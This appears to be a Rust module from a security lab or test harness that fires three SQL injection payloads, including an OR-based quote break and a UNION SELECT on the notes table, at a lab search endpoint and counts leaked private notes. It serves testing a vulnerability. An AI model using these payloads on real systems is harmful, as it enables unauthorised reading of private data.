//! SQL injection: a search that also finds what is private.

use std::collections::BTreeSet;

use evidence::Failure;

use super::Attack;
use super::attacker::{Attacker, form};

pub(super) const ATTACK: Attack = Attack {
    id: "sql-injection",
    name: "SQL injection",
    what: "private notes read",
    run: |attacker| Box::pin(attack(attacker)),
};

/// Author and title. The second needs no quote, so a filter of quotes is in nobody's way.
const SEARCHES: [(&str, &str); 3] = [
    ("1", "x' OR NOT public --"),
    ("0 OR NOT public", ""),
    ("0 UNION SELECT id, title, body FROM notes --", ""),
];

async fn attack(attacker: &Attacker<'_>) -> Result<u64, Failure> {
    let mut found = BTreeSet::new();
    for (author, title) in SEARCHES {
        let query = form(&[("author", author), ("title", title)]);
        let notes = attacker.get(&format!("/lab/notes?{query}")).await?.json();
        let bodies =
            notes.as_array().into_iter().flatten().filter_map(|note| note["body"].as_str());
        found.extend(bodies.filter(|body| body.starts_with("private:")).map(str::to_owned));
    }
    Ok(found.len() as u64)
}
